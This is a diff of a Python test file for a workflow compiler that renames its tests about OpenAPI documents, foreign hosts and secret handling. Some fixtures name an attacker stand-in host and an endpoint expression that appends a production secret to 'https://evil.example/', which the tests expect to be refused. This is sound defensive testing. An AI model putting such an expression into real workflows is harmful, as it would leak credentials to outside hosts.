@@ -73,7 +73,7 @@ def program_of(made: Compiled) -> dict[str, Any]:
     return found
 
 
-def test_the_program_holds_what_it_names_and_the_definition_stays_the_document(tmp_path: Path) -> None:
+def test_a_program_has_its_references_and_the_definition_is_the_document(tmp_path: Path) -> None:
     source = program_of(compiled(tmp_path, CALLS, both()))
     assert source[KEY]["operations"]["/do/0/one"]["url"] == "https://docs.example/v1/x"
     assert source[KEY]["calls"] == {"/do/1/two": FUNCTION}
@@ -95,7 +95,7 @@ def test_equal_documents_give_equal_programs_and_others_give_others(tmp_path: Pa
     assert first.bundle.revision.digest != other.bundle.revision.digest
 
 
-def test_what_of_a_document_is_not_called_does_not_change_the_program(tmp_path: Path) -> None:
+def test_operations_that_are_not_called_do_not_change_the_program(tmp_path: Path) -> None:
     more = {**API, "paths": {**API["paths"], "/y": {"get": {"operationId": "y"}}}}
     first, second = (
         compiled(tmp_path, CALLS, both()),
@@ -123,9 +123,7 @@ def test_validate_asks_for_nothing_and_apply_without_a_way_out_refuses(tmp_path:
         (b"a: [", ":2:1: the YAML does not hold"),
     ],
 )
-def test_a_document_that_cannot_be_used_is_told_at_its_place(
-    tmp_path: Path, page: bytes | None, why: str
-) -> None:
+def test_an_unusable_document_is_reported_at_its_place(tmp_path: Path, page: bytes | None, why: str) -> None:
     web = both() if page is None else both(document=page)
     if page is None:
         web.pages = {FUNCTION: web.pages[FUNCTION]}
@@ -178,7 +176,7 @@ def script(uri: str) -> dict[str, Any]:
     return {"run": {"script": {"language": "python", "source": {"endpoint": uri}}}}
 
 
-def test_what_a_fetched_document_names_on_another_host_is_not_trusted_as_what_is_written_here(
+def test_a_host_that_only_a_fetched_document_names_is_foreign(
     tmp_path: Path,
 ) -> None:
     own, other = "https://lib.example/own.py", "http://169.254.1.1/latest.py"
@@ -189,7 +187,7 @@ def test_what_a_fetched_document_names_on_another_host_is_not_trusted_as_what_is
     assert web.foreign == [other, "https://10.0.0.1/x.py"]
 
 
-def test_what_such_a_document_names_beside_itself_is_trusted_no_more(tmp_path: Path) -> None:
+def test_documents_beside_a_foreign_document_are_foreign(tmp_path: Path) -> None:
     """Its host may have another address by the time that it is asked again, or called."""
     inner, api = "https://third.example/f.yaml", "https://third.example/api.json"
     call = {"call": "openapi", "with": {"document": {"endpoint": "api.json"}, "operationId": "x"}}
@@ -228,7 +226,7 @@ def test_functions_that_lead_to_ever_more_functions_come_to_an_end(tmp_path: Pat
         ('{"x": "\\ud800"}', ":1:10: the YAML does not hold: found invalid Unicode"),
     ],
 )
-def test_json_that_no_program_could_hold_is_told(tmp_path: Path, page: str, why: str) -> None:
+def test_json_that_cannot_be_stored_is_reported(tmp_path: Path, page: str, why: str) -> None:
     (problem,) = told(compiled(tmp_path, CALLS, both(document=page)))
     assert problem.startswith("workflows.d/order.yaml:3:54 IOG307 https://docs.example/a/api.json")
     assert why in problem
@@ -255,7 +253,7 @@ EVIL = "https://evil.example/take"
     ],
 )
 @pytest.mark.parametrize("kind", ["script", "document"])
-def test_a_function_from_elsewhere_sends_no_secret_to_where_its_documents_lie(
+def test_an_external_function_sends_no_secret_to_the_host_of_its_documents(
     tmp_path: Path, policy: dict[str, Any], kind: str
 ) -> None:
     """It is not even asked for: whoever wrote the function may keep the place, too."""
@@ -268,7 +266,7 @@ def test_a_function_from_elsewhere_sends_no_secret_to_where_its_documents_lie(
     assert any("a function from elsewhere presents no secrets" in each.message for each in made.errors)
 
 
-def test_a_function_from_elsewhere_names_no_secrets_wherever_a_text_may_stand(tmp_path: Path) -> None:
+def test_an_external_function_may_not_name_secrets_in_any_text(tmp_path: Path) -> None:
     endpoint = '${ "https://evil.example/" + $secrets.prod }'
     call = {"call": "openapi", "with": {"document": {"endpoint": endpoint}, "operationId": "x"}}
     made = compiled(tmp_path, CALLS, both(function=json.dumps(call)))
